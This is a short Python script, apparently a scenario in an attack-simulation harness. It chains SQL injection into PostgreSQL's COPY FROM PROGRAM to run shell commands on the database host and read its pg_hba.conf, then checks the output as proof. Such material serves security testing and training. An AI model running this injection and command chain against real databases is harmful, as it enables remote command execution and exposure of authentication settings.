#!/usr/bin/python3 -B
"""SQL injection to a program: the search's words reach COPY FROM PROGRAM (CWE-89, T1059)."""

from attack import Attack


def run(attack: Attack) -> bool:
    said = attack.database("id; hostname; ls -la /data/postgres; cat /data/postgres/pg_hba.conf | tail -3")
    return attack.prove("uid=71" in said and "scram-sha-256" in said, said=said)


Attack("T1190, T1059.004", ["edge", "catalog", "db"], ["/data/postgres"], entry="catalog").main(run)
